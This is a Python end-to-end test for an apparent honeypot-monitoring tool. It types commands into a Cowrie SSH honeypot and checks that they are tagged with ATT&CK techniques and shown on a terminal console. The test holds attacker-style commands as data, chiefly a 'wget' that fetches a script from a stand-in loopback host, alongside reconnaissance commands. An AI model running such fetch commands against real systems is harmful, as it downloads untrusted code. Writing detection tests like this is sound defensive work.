"""The whole way: somebody types into a real Cowrie, the tags stand in the database and on the console."""

from __future__ import annotations

import asyncio
import contextlib
import socket
from collections.abc import Iterator
from functools import partial
from pathlib import Path
from typing import Any

import asyncssh
import pexpect
import pyte
import pytest

from tests.programkit import PROGRAM, daemon, listed, surroundings, until
from tests.recording.cowrie_env import running_cowrie

pytestmark = [pytest.mark.slow, pytest.mark.timeout(300)]
LIMIT_S = 30.0
COLUMNS, ROWS = 80, 24


@contextlib.contextmanager
def closed_port() -> Iterator[int]:
    """A loopback port that refuses connections while the block runs."""
    with socket.socket() as holder:
        holder.bind(("127.0.0.1", 0))
        yield int(holder.getsockname()[1])


async def _type(port: int, commands: list[str]) -> None:
    async with asyncssh.connect(
        "127.0.0.1", port, username="root", password="secret-enough", known_hosts=None, client_keys=None, agent_path=None, config=None,
    ) as connection:  # fmt: skip
        process = await connection.create_process(term_type="xterm", term_size=(COLUMNS, ROWS))
        await process.stdout.readuntil("# ")
        for command in commands:
            process.stdin.write(f"{command}\r")
            await process.stdout.readuntil("# ")
        process.stdin.write("exit\r")
        await asyncio.wait_for(process.wait_closed(), LIMIT_S)


def _techniques(rows: list[dict[str, Any]]) -> dict[str, str]:
    """Technique (the sub-technique where there is one) to the evidence of its tag."""
    return {row["sub_technique_id"] or row["technique_id"]: str(row["evidence"]) for row in rows}


async def test_typed_commands_become_tags_with_their_text(tmp_path: Path) -> None:
    data = tmp_path / "data"
    with closed_port() as port:
        fetch = f"wget http://127.0.0.1:{port}/x.sh"
        wanted = {"T1082": "uname -a", "T1105": fetch, "T1007": "crontab -l"}
        async with running_cowrie(tmp_path, telnet=False, users=("root:x:*",)) as pot:
            with daemon(data, tmp_path / "engine.log", "--sensor", f"cowrie={pot.log_path}") as engine:
                await _type(pot.ssh_port, list(wanted.values()))
                await asyncio.to_thread(
                    until, lambda: wanted.keys() <= _techniques(listed("tags", data)).keys(), LIMIT_S, str(list(wanted))
                )  # fmt: skip
                found = _techniques(listed("tags", data))
                for technique, command in wanted.items():
                    assert command in found[technique]
                (session,) = listed("sessions", data)
                assert session["command_count"] >= len(wanted)
                await asyncio.to_thread(_console_shows, data, "fetched x.sh, not run", wanted)
                assert engine.stop() == 0, engine.said()
    assert not (data / "connection.json").exists()


def _console_shows(data: Path, achieved: str, typed: dict[str, str]) -> None:
    """The console, attached in a terminal, shows what the source achieved, and one Enter further each command of
    ``typed`` beside its technique; it gives the terminal back on Q."""
    screen = pyte.Screen(COLUMNS, ROWS)
    stream = pyte.ByteStream(screen)
    received = bytearray()
    child = pexpect.spawn(
        PROGRAM, ["--attach", "--data-dir", str(data)], dimensions=(ROWS, COLUMNS), env={**surroundings(), "TERM": "xterm-256color", "LANG": "C.UTF-8"},
    )  # fmt: skip

    def read() -> bool:
        with contextlib.suppress(pexpect.TIMEOUT):
            piece = child.read_nonblocking(65_536, timeout=0.2)
            received.extend(piece)
            stream.feed(piece)
        return False

    def shown(*words: str) -> bool:
        read()
        return any(all(word in line for word in words) for line in screen.display)

    try:
        try:
            until(lambda: shown(achieved), LIMIT_S, f"{achieved} on the screen", pause=0)
            child.send("\r")
            for technique, command in typed.items():
                until(partial(shown, command, technique), LIMIT_S, f"{technique} on the screen", pause=0)
        except AssertionError as error:
            error.add_note("\n".join(screen.display))
            raise
        child.send("Q")
        with contextlib.suppress(pexpect.EOF):
            until(read, LIMIT_S, "the end of the console", pause=0)
        child.wait()
        assert child.exitstatus == 0
        left, entered = received.rfind(b"\x1b[?1049l"), received.rfind(b"\x1b[?1049h")
        assert left > entered >= 0, "the alternate screen was not left"
        assert received.rfind(b"\x1b[?25h") > received.rfind(b"\x1b[?25l"), "the cursor stayed hidden"
        assert received.rfind(b"\x1b[?1003l") >= received.rfind(b"\x1b[?1003h"), "the mouse stayed caught"
    finally:
        child.close(force=True)
